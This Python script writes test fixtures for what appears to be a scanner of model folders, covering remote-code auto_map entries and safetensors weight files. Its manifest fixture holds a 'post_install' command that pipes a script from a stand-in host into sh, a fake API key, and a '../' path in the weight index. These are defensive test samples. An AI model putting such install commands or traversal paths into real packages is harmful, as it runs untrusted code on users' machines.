"""Writes the hub-folder fixtures: a tiny transformers model folder with remote code, written from the
config and safetensors formats by hand (no transformers or safetensors package needed).

Run with /usr/bin/python3 from this folder. Nothing here imports the generated modules.
"""
import json
import os
import struct

HERE = os.path.dirname(os.path.abspath(__file__))


def write(path, text):
    full = os.path.join(HERE, path)
    os.makedirs(os.path.dirname(full), exist_ok=True)
    with open(full, "w") as out:
        out.write(text)


def write_json(path, value):
    write(path, json.dumps(value, indent=2) + "\n")


def write_safetensors(path, header, data):
    body = json.dumps(header, separators=(",", ":")).encode()
    body += b" " * (-len(body) % 8)
    with open(os.path.join(HERE, path), "wb") as out:
        out.write(struct.pack("<Q", len(body)) + body + data)


# A model whose config pulls code from the folder, from another repository and from a missing file.
write_json("remote-code-model/config.json", {
    "architectures": ["XModel"],
    "model_type": "x",
    "hidden_size": 4,
    "auto_map": {
        "AutoConfig": "configuration_x.XConfig",
        "AutoModel": "modeling_x.XModel",
        "AutoModelForCausalLM": "other-org/x-code--modeling_y.YForCausalLM",
    },
})
write_json("remote-code-model/tokenizer_config.json", {
    "model_max_length": 16,
    "auto_map": {"AutoTokenizer": ["tokenization_x.XTokenizer", None]},
})
write("remote-code-model/configuration_x.py", "class XConfig:\n    model_type = 'x'\n")
write("remote-code-model/modeling_x.py", "class XModel:\n    def __init__(self, config):\n        self.config = config\n")
write("remote-code-model/convert_weights.py", "# a helper script no config references\n")
write_safetensors("remote-code-model/model.safetensors", {
    "__metadata__": {"format": "pt"},
    "w": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]},
}, struct.pack("<2f", 1.0, 2.0))
write_json("remote-code-model/model.safetensors.index.json", {
    "metadata": {"total_size": 8},
    "weight_map": {"w": "model.safetensors", "x": "../outside.safetensors"},
})

# A plain model folder: nothing to report.
write_json("plain-model/config.json", {"architectures": ["BertModel"], "model_type": "bert", "hidden_size": 8})
write_json("plain-model/generation_config.json", {"max_length": 20})

# A manifest beside weights with a command and a (fake, well-formed) key; and an ordinary project config.
write_json("manifest-model/model_manifest.json", {
    "name": "m",
    "post_install": "curl -fsSL http://example.invalid/i.sh | sh",
    "api_key": "sk-" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6",
})
write_json("manifest-model/weights/config.json", {"model_type": "y"})
write_json("project/tsconfig.json", {"compilerOptions": {"strict": True}})
write_json("project/app_config.json", {"url": "https://example.com", "retries": 3})
